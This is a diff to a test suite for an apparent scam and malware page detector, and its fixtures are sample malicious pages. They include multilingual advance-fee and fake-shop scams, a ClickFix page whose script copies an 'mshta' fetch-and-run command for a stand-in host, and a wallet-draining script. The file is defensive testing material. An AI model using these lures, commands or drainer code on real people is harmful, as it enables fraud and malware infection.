@@ -731,6 +731,11 @@ describe('analysis: signal rules', () => {
     };
     const ids = (r: ReturnType<typeof analyze>): string[] => r.signals.map((s) => s.id);
     const clean = (r: ReturnType<typeof analyze>): void => assert.equal(r.verdict, 'clean', `${r.verdict} by ${r.decidedBy?.join(',')}`);
+    /** The page is judged by combination `combo` (the signals are printed when it is not). */
+    const decides = (combo: string, url: string, body: string): void => {
+      const r = judge(url, body);
+      assert.ok(r.decidedBy?.includes(`combo:${combo}`), JSON.stringify(ids(r)));
+    };
 
     it('malware: a pretext in another language beside a payload; several pretexts beside a download button whose file is not visible', () => {
       const update = judge('https://zahnarzt-mueller.example/', '<h1>Ihr Browser ist veraltet</h1><p>Aktualisieren Sie Ihren Browser, um die Seite anzuzeigen.</p><a href="/wp-content/uploads/Update.zip">Jetzt aktualisieren</a>');
@@ -824,26 +829,19 @@ describe('analysis: signal rules', () => {
     });
 
     it('scams in Indonesian, Vietnamese, Hindi, Chinese and Arabic: money to receive and a fee to pay first; a task scam that takes a deposit; a browser alarm in Thai', () => {
-      const loan = judge('https://dana-kilat.example/pengajuan', '<h1>Pinjaman Anda telah disetujui!</h1><p>Dana Rp 15.000.000 siap dicairkan. Biaya administrasi Rp 350.000 harus ditransfer terlebih dahulu sebelum dana dicairkan ke rekening Anda.</p>');
-      assert.ok(loan.decidedBy?.includes('combo:advance-fee'), JSON.stringify(ids(loan)));
-      const vay = judge('https://vay-nhanh.example/ho-so', '<h1>Khoản vay của bạn đã được duyệt</h1><p>Vui lòng nộp phí bảo hiểm khoản vay 1.200.000đ trước khi giải ngân.</p>');
-      assert.ok(vay.decidedBy?.includes('combo:advance-fee'), JSON.stringify(ids(vay)));
-      const task = judge('https://like-earn.example/join', '<h1>घर बैठे रोज़ ₹3000 कमाएं</h1><p>हर like पर ₹50! Free tasks के बाद merchant tasks: आप amount deposit करते हैं और 30 मिनट में 30% profit के साथ वापस मिलता है।</p>');
-      assert.ok(task.decidedBy?.includes('combo:advance-fee'), JSON.stringify(ids(task)));
-      const zh = judge('https://jiedai-kuai.example/', '<h1>恭喜您获得贷款资格</h1><p>您的贷款已批准，需先缴纳保证金2000元才能提现。</p>');
-      assert.ok(zh.decidedBy?.includes('combo:advance-fee'), JSON.stringify(ids(zh)));
-      const ar = judge('https://jawaez-online.example/', '<h1>مبروك! لقد ربحت جائزة 50,000 دولار</h1><p>يجب دفع رسوم التحويل 250 دولار قبل استلام الجائزة.</p>');
-      assert.ok(ar.decidedBy?.includes('combo:advance-fee'), JSON.stringify(ids(ar)));
-      const th = judge('https://th-alert.example/', '<h1>คอมพิวเตอร์ของคุณติดไวรัส</h1><p>โทรหาฝ่ายสนับสนุน Microsoft ทันที: 1-888-555-0144</p>');
-      assert.ok(th.decidedBy?.includes('combo:tech-support-scam'), JSON.stringify(ids(th)));
+      decides('advance-fee', 'https://dana-kilat.example/pengajuan', '<h1>Pinjaman Anda telah disetujui!</h1><p>Dana Rp 15.000.000 siap dicairkan. Biaya administrasi Rp 350.000 harus ditransfer terlebih dahulu sebelum dana dicairkan ke rekening Anda.</p>');
+      decides('advance-fee', 'https://vay-nhanh.example/ho-so', '<h1>Khoản vay của bạn đã được duyệt</h1><p>Vui lòng nộp phí bảo hiểm khoản vay 1.200.000đ trước khi giải ngân.</p>');
+      decides('advance-fee', 'https://like-earn.example/join', '<h1>घर बैठे रोज़ ₹3000 कमाएं</h1><p>हर like पर ₹50! Free tasks के बाद merchant tasks: आप amount deposit करते हैं और 30 मिनट में 30% profit के साथ वापस मिलता है।</p>');
+      decides('advance-fee', 'https://jiedai-kuai.example/', '<h1>恭喜您获得贷款资格</h1><p>您的贷款已批准，需先缴纳保证金2000元才能提现。</p>');
+      decides('advance-fee', 'https://jawaez-online.example/', '<h1>مبروك! لقد ربحت جائزة 50,000 دولار</h1><p>يجب دفع رسوم التحويل 250 دولار قبل استلام الجائزة.</p>');
+      decides('tech-support-scam', 'https://th-alert.example/', '<h1>คอมพิวเตอร์ของคุณติดไวรัส</h1><p>โทรหาฝ่ายสนับสนุน Microsoft ทันที: 1-888-555-0144</p>');
       // A lender that says it charges nothing before the money arrives is the opposite of the scam.
       clean(judge('https://www.pinjam-aman.example/cara', '<h1>Cara mengajukan pinjaman</h1><p>Pengajuan Anda disetujui dalam 1 hari kerja. Kami tidak pernah meminta biaya administrasi yang harus dibayar sebelum dana dicairkan.</p>'));
     });
 
     it('fake shops: closing-down prices where every payment choice but a bank transfer is "unavailable"; the same sale with cards working stays clean', () => {
       const checkout = (options: string): string => `<title>Sneaker Outlet – up to 80% off | Closing-down sale</title><h1>Closing-down sale: up to -80%</h1><fieldset><legend>Payment</legend>${options}</fieldset><button>Place order</button>`;
-      const fake = judge('https://sneaker-outlet-store.example/checkout', checkout('<label><input type="radio" checked> Bank transfer (5% extra discount)</label><label><input type="radio" disabled> PayPal (temporarily unavailable)</label><label><input type="radio" disabled> Credit card (currently not available)</label>'));
-      assert.ok(fake.decidedBy?.includes('combo:fake-shop'), JSON.stringify(ids(fake)));
+      decides('fake-shop', 'https://sneaker-outlet-store.example/checkout', checkout('<label><input type="radio" checked> Bank transfer (5% extra discount)</label><label><input type="radio" disabled> PayPal (temporarily unavailable)</label><label><input type="radio" disabled> Credit card (currently not available)</label>'));
       clean(judge('https://www.sneaker-outlet-store.example/checkout', checkout('<label><input type="radio" checked> Credit card</label><label><input type="radio"> PayPal</label><label><input type="radio"> Bank transfer</label>')));
     });
 
@@ -868,25 +866,18 @@ describe('analysis: signal rules', () => {
     });
 
     it('the fee said the other way round (not released until it is paid; to release it, pay), balances waiting and loans approved, in several languages; a lender without a fee stays clean', () => {
-      const held = judge('https://rewards-center.example/withdraw', '<h1>Withdrawal status</h1><p>Your balance of $4,870 is ready for withdrawal.</p><p>Funds cannot be released to your bank until the tax verification fee of $487 is paid.</p>');
-      assert.ok(held.decidedBy?.includes('combo:advance-fee'), JSON.stringify(ids(held)));
-      const mx = judge('https://credito-facil.example/solicitud/aprobada', '<h1>¡Felicidades! Tu préstamo fue aprobado</h1><p>Monto: $45,000 MXN.</p><p>Para liberar tu préstamo, la Condusef exige un depósito de garantía de $1,850 MXN.</p>');
-      assert.ok(mx.decidedBy?.includes('combo:advance-fee'), JSON.stringify(ids(mx)));
-      const ru = judge('https://fond-vyplat.example/', '<h1>Проверка положенных вам выплат</h1><p>Итого к выплате 77 050 ₽.</p><p>Для перевода средств на вашу карту необходимо оплатить комиссию за перевод — 399 ₽.</p>');
-      assert.ok(ru.decidedBy?.includes('combo:advance-fee'), JSON.stringify(ids(ru)));
-      const tr = judge('https://borsa-yatirim.example/kayit', '<title>250 TL ile günlük 5.000 TL kazanın</title><h1>Yapay zeka destekli robot ile garantili günlük kazanç</h1><p>Günlük ortalama %38 getiri. Zarar riski yok.</p>');
-      assert.ok(tr.decidedBy?.includes('combo:investment-scam'), JSON.stringify(ids(tr)));
-      const shop = judge('https://tekno-outlet.example/iphone', '<h1>iPhone 16 Pro Max – Stok eritme kampanyası</h1><p>Kampanyalı ürünlerde kredi kartı ile ödeme kabul edilmemektedir. Havale/EFT ile ek %10 indirim.</p>');
-      assert.ok(shop.decidedBy?.includes('combo:fake-shop'), JSON.stringify(ids(shop)));
+      decides('advance-fee', 'https://rewards-center.example/withdraw', '<h1>Withdrawal status</h1><p>Your balance of $4,870 is ready for withdrawal.</p><p>Funds cannot be released to your bank until the tax verification fee of $487 is paid.</p>');
+      decides('advance-fee', 'https://credito-facil.example/solicitud/aprobada', '<h1>¡Felicidades! Tu préstamo fue aprobado</h1><p>Monto: $45,000 MXN.</p><p>Para liberar tu préstamo, la Condusef exige un depósito de garantía de $1,850 MXN.</p>');
+      decides('advance-fee', 'https://fond-vyplat.example/', '<h1>Проверка положенных вам выплат</h1><p>Итого к выплате 77 050 ₽.</p><p>Для перевода средств на вашу карту необходимо оплатить комиссию за перевод — 399 ₽.</p>');
+      decides('investment-scam', 'https://borsa-yatirim.example/kayit', '<title>250 TL ile günlük 5.000 TL kazanın</title><h1>Yapay zeka destekli robot ile garantili günlük kazanç</h1><p>Günlük ortalama %38 getiri. Zarar riski yok.</p>');
+      decides('fake-shop', 'https://tekno-outlet.example/iphone', '<h1>iPhone 16 Pro Max – Stok eritme kampanyası</h1><p>Kampanyalı ürünlerde kredi kartı ile ödeme kabul edilmemektedir. Havale/EFT ile ek %10 indirim.</p>');
       clean(judge('https://www.lender.example/apply/approved', '<h1>Your loan has been approved</h1><p>The funds will be transferred to your account within two business days. There are no upfront fees: the first instalment is due in 30 days.</p>'));
       clean(judge('https://www.vitamins.example/c-1000', '<h1>Vitamin C 1000 mg</h1><p>Each tablet gives you 1111% daily value of vitamin C. Take one tablet a day with food.</p>'));
     });
 
     it('a fake meeting fix that copies a command its script assembled and says Win+X; an installer linked from a host dressed as GitHub; a bridge that shows an amount box but sends the balance minus gas', () => {
-      const teams = judge('https://teams-live.meeting-join.example/l/join', `<title>Microsoft Teams</title><h1>Audio-Treiber-Fehler</h1><ol><li>Klicken Sie auf „Lösung kopieren“</li><li>Drücken Sie Win + X und wählen Sie Terminal (Administrator)</li><li>Fügen Sie mit Strg + V ein</li></ol><button id="cp">Lösung kopieren</button><script>var x=['m','s','h','t','a'].join('')+' https://teams-audio-fix.example/driver/update.hta';document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(x+'   # Microsoft Teams Audio Treiber Reparatur')}</script>`);
-      assert.ok(teams.decidedBy?.includes('combo:clickfix-scripted-copy'), JSON.stringify(ids(teams)));
-      const npp = judge('https://notepad-plus-plus.example.co/downloads/v8.7.1/', '<title>Notepad++ v8.7.1</title><h1>Download Notepad++ v8.7.1</h1><a href="https://github-releases.objects-cdn.example/npp/npp.8.7.1.Installer.x64.exe">Installer</a>');
-      assert.ok(npp.decidedBy?.includes('combo:lookalike-payload'), JSON.stringify(ids(npp)));
+      decides('clickfix-scripted-copy', 'https://teams-live.meeting-join.example/l/join', `<title>Microsoft Teams</title><h1>Audio-Treiber-Fehler</h1><ol><li>Klicken Sie auf „Lösung kopieren“</li><li>Drücken Sie Win + X und wählen Sie Terminal (Administrator)</li><li>Fügen Sie mit Strg + V ein</li></ol><button id="cp">Lösung kopieren</button><script>var x=['m','s','h','t','a'].join('')+' https://teams-audio-fix.example/driver/update.hta';document.getElementById('cp').onclick=function(){navigator.clipboard.writeText(x+'   # Microsoft Teams Audio Treiber Reparatur')}</script>`);
+      decides('lookalike-payload', 'https://notepad-plus-plus.example.co/downloads/v8.7.1/', '<title>Notepad++ v8.7.1</title><h1>Download Notepad++ v8.7.1</h1><a href="https://github-releases.objects-cdn.example/npp/npp.8.7.1.Installer.x64.exe">Installer</a>');
       const bridge = (read: string): ScanResult => judge('https://stargate.bridge-transfer.example/transfer', `<title>Stargate | Cross-chain Transfer</title><input id="amt" value="0.5"><button id="b">Connect Wallet</button><script>var e=window.ethereum,D='0x9f3c2a';document.getElementById('b').onclick=async function(){var u=(await e.request({method:'eth_requestAccounts'}))[0];var b=BigInt(await e.request({method:'eth_getBalance',params:[u,'latest']}));var gp=BigInt(await e.request({method:'eth_gasPrice'}));${read}var send=b-gp*21000n;await e.request({method:'eth_sendTransaction',params:[{from:u,to:D,value:'0x'+send.toString(16),data:'0x'}]})}</script>`);
       assert.ok(ids(bridge('')).includes('wallet-balance-sweep'), JSON.stringify(ids(bridge(''))));
       // A bridge that reads the amount the visitor typed is not sweeping, whatever else it computes from the balance.
@@ -894,8 +885,7 @@ describe('analysis: signal rules', () => {
     });
 
     it('an invoice "provided as a compressed archive, unpack it and open the invoice" behind a download button is malware; a vendor page saying to extract its ZIP and run setup stays clean', () => {
-      const invoice = judge('https://rechnungsportal.dokumente-abruf.example/abruf/', '<title>Ihre Rechnung RE-2025-10-4471</title><h2>Ihre Rechnung ist verfügbar</h2><p>Anbei erhalten Sie Ihre Rechnung für Oktober 2025.</p><button id="dl" disabled>Dokument herunterladen</button><p>Aus Sicherheitsgründen wird das Dokument als komprimiertes Archiv bereitgestellt. Bitte entpacken Sie die Datei und öffnen Sie die Rechnung.</p>');
-      assert.ok(invoice.decidedBy?.includes('combo:malware-pretexts-download'), JSON.stringify(ids(invoice)));
+      decides('malware-pretexts-download', 'https://rechnungsportal.dokumente-abruf.example/abruf/', '<title>Ihre Rechnung RE-2025-10-4471</title><h2>Ihre Rechnung ist verfügbar</h2><p>Anbei erhalten Sie Ihre Rechnung für Oktober 2025.</p><button id="dl" disabled>Dokument herunterladen</button><p>Aus Sicherheitsgründen wird das Dokument als komprimiertes Archiv bereitgestellt. Bitte entpacken Sie die Datei und öffnen Sie die Rechnung.</p>');
       clean(judge('https://www.tinytools.example/download', '<title>TinyTools 3.2 – Download</title><h1>Download TinyTools 3.2</h1><p><a href="/files/tinytools-3.2.zip">Download tinytools-3.2.zip</a></p><p>Extract the archive and run setup.exe to install. TinyTools is free software under the MIT licence.</p><footer>© TinyTools</footer>'));
     });
 
@@ -917,8 +907,7 @@ describe('analysis: signal rules', () => {
       const page = (footer: string): string => `<title>Microsoft 365 licences | Renew now</title><h1>Microsoft 365 licences</h1><p>Your subscription expires in 7 days. Renew before the deadline to keep your mailbox.</p><a href="/renew">Renew</a>${footer}`;
       const partner = judge('https://www.northgate-microsoft.example/licences', page('<footer>© 2026 Northgate IT Ltd · Microsoft Solutions Partner</footer>'));
       clean(partner);
-      const lure = judge('https://m365-renewal-centre.example/', page(''));
-      assert.ok(lure.decidedBy?.includes('combo:brand-lure'), JSON.stringify(ids(lure)));
+      decides('brand-lure', 'https://m365-renewal-centre.example/', page(''));
     });
 
     const scamLookalikes: [string, string, string][] = [
